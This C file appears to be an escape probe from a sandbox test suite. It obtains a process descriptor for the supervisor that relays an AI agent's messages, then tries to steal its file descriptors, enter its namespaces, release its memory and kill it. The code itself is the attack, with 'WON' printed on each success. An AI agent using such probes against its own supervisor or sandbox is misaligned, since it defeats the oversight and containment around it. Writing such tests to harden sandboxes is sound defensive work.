/* Have the supervisor itself: it sends the agent's messages, and the kernel hands who asks for it a
 * descriptor of the sending process (SO_PASSPIDFD).  Then end it, or take something from it. */
#include "attack.h"
#include <sys/wait.h>
enum { PASSPIDFD = 76, SCM_PIDFD_ = 4 };
int main(void) {
    int pair[2], one = 1, pidfd = -1;
    if (socketpair(AF_UNIX, SOCK_DGRAM, 0, pair)) return 1;
    if (setsockopt(pair[1], SOL_SOCKET, PASSPIDFD, &one, sizeof one)) perror("SO_PASSPIDFD");
    char data[8], space[CMSG_SPACE(sizeof(int))];
    struct iovec part = {data, sizeof data};
    struct msghdr message = {.msg_iov = &part, .msg_iovlen = 1};
    if (sendmsg(pair[0], &message, 0) < 0) perror("sendmsg");
    message.msg_control = space;
    message.msg_controllen = sizeof space;
    if (recvmsg(pair[1], &message, 0) < 0) perror("recvmsg");
    struct cmsghdr *had = CMSG_FIRSTHDR(&message);
    if (had && had->cmsg_type == SCM_PIDFD_) memcpy(&pidfd, CMSG_DATA(had), sizeof pidfd);
    fprintf(stderr, "pidfd %d\n", pidfd);
    if (pidfd < 0) return 1;
    for (int number = 0; number < 64; number++) {
        int taken = syscall(438, pidfd, number, 0); /* pidfd_getfd */
        if (taken >= 0) puts("WON");
    }
    for (int request = 1; request < 16; request++)
        if (ioctl(pidfd, 0xFF00 | request, 0) >= 0) puts("WON"); /* PIDFD_GET_..._NAMESPACE */
    if (!syscall(SYS_setns, pidfd, 0x20000) || !syscall(448, pidfd, 0)) puts("WON"); /* mrelease */
    fflush(stdout);
    for (int flags = 0; flags <= 4; flags += flags ? flags : 1)
        if (syscall(424, pidfd, SIGKILL, 0, flags)) perror("pidfd_send_signal");
    return 0;
}
